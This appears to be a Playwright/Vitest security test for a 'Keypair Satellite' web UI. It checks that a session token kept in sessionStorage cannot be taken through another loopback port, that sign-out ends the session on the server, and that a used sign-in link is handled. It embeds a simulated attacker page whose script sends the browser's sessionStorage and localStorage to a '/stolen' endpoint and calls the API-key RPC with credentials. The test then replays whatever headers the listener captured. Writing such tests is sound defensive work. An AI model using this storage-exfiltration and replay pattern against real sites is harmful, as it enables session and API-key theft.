import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { SatelliteServer } from '../helpers/satellite-server';
import { describeWithTools, TOOLS } from '../helpers/tools';
import { checkPage } from './page-checks';
import { openUiSession, type UiSession } from './session';

// Issue 14, attack 1: cookies ignore ports (RFC 6265 §8.5), so a session cookie reached every
// other program listening on 127.0.0.1. Here a real Chromium, signed in, visits a page on another
// loopback port that logs every header it receives; nothing it logs opens the satellite.

const STORAGE_KEY = 'keypair-satellite.session';

describeWithTools([TOOLS.chromium])('web UI: the session cannot be taken through another 127.0.0.1 port', () => {
  let session: UiSession | undefined;
  let server: SatelliteServer;
  let page: Page;
  let listener: Server;
  let listenerPort = 0;
  /** Every request the other listener saw: its cookie and authorization headers, and its URL. */
  const seen: { url: string; cookie: string; authorization: string; session: string }[] = [];

  beforeAll(async () => {
    session = await openUiSession();
    ({ server, page } = session);
    listener = createServer((req, res) => {
      seen.push({ url: req.url ?? '', cookie: req.headers.cookie ?? '', authorization: req.headers.authorization ?? '', session: String(req.headers['x-satellite-session'] ?? '') });
      res.writeHead(200, { 'content-type': 'text/html' });
      // The page also tries to read the satellite's storage and to call it with the browser's credentials.
      res.end(`<!doctype html><title>other</title><img src="/pixel.png"><script>
        fetch(${JSON.stringify(server.url)} + '/ui/rpc/getApiKey', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }).catch(() => {});
        fetch('/stolen?storage=' + encodeURIComponent(JSON.stringify(Object.assign({}, sessionStorage, localStorage))));
      </script>`);
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listenerPort = (listener.address() as AddressInfo).port;
  });

  afterAll(async () => {
    await session?.close();
    await new Promise<void>((resolve) => listener?.close(() => resolve()));
  });

  const replay = (path: string, headers: Record<string, string>) =>
    fetch(`${server.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: '{}' });

  it('signed in, the session lives in this tab only; the other port receives nothing that opens the satellite', async () => {
    const token = await page.evaluate((key) => sessionStorage.getItem(key), STORAGE_KEY);
    expect(token, 'the UI keeps its session in sessionStorage').toMatch(/^[\w-]{40,}$/);
    expect(await page.evaluate(() => document.cookie)).toBe('');
    // The UI works with it.
    await page.getByTestId('nav-services').click();
    await page.getByTestId('header-service-state').and(page.locator('[data-state="active"]')).waitFor();

    for (const [i, host] of ['127.0.0.1', 'localhost'].entries()) {
      await page.goto(`http://${host}:${listenerPort}/`);
      await expect.poll(() => seen.filter((s) => s.url.startsWith('/stolen')).length, { timeout: 10_000 }).toBe(i + 1);
      await page.waitForTimeout(300);
    }
    expect(seen.length).toBeGreaterThanOrEqual(4);
    for (const s of seen) {
      expect(`${s.cookie}${s.authorization}${s.session}${decodeURIComponent(s.url)}`).not.toContain(token!);
    }

    // Whatever the listener logged, replayed from Node: refused on every /ui/rpc call.
    for (const s of seen) {
      const headers: Record<string, string> = {};
      if (s.cookie) headers.cookie = s.cookie;
      if (s.authorization) headers.authorization = s.authorization;
      if (s.session) headers['x-satellite-session'] = s.session;
      for (const method of ['getApiKey', 'listApplications', 'rotateApiKey']) {
        const res = await replay(`/ui/rpc/${method}`, headers);
        expect([401, 403], `${method} with ${JSON.stringify(headers)}`).toContain(res.status);
      }
    }
  });

  it('sign-out ends the session on the satellite, not only in the tab', async () => {
    await page.goto(`${server.url}/#/certificates`);
    await page.getByTestId('sign-out').waitFor();
    const token = (await page.evaluate((key) => sessionStorage.getItem(key), STORAGE_KEY))!;
    expect((await replay('/ui/rpc/listApplications', { 'x-satellite-session': token })).status).toBe(200);
    await page.getByTestId('sign-out').click();
    await page.getByRole('heading', { name: 'Sign in to Keypair Satellite' }).waitFor();
    expect(await page.evaluate((key) => sessionStorage.getItem(key), STORAGE_KEY)).toBeNull();
    expect((await replay('/ui/rpc/listApplications', { 'x-satellite-session': token })).status).toBe(401);
    await checkPage(page, 'sign-in-after-sign-out');
  });

  it('a used sign-in link says so in words, and the API key signs in', async () => {
    await page.goto(`${server.url}/ui/login?token=${encodeURIComponent(server.loginToken)}`);
    const alert = page.getByTestId('error-alert');
    await alert.waitFor();
    expect(await alert.innerText()).toMatch(/This sign-in link was used already/);
    expect(page.url()).not.toContain(server.loginToken);
    await checkPage(page, 'sign-in-link-used');
    await page.getByTestId('signin-api-key').fill('not-the-key');
    await page.getByTestId('signin-submit').click();
    await expect.poll(() => alert.innerText()).toMatch(/That is not this satellite's API key/);
    await page.getByTestId('signin-api-key').fill(server.apiKey);
    await page.getByTestId('signin-submit').click();
    await page.getByTestId('sign-out').waitFor();
    expect(page.url()).toBe(`${server.url}/#/certificates`);
  });
});
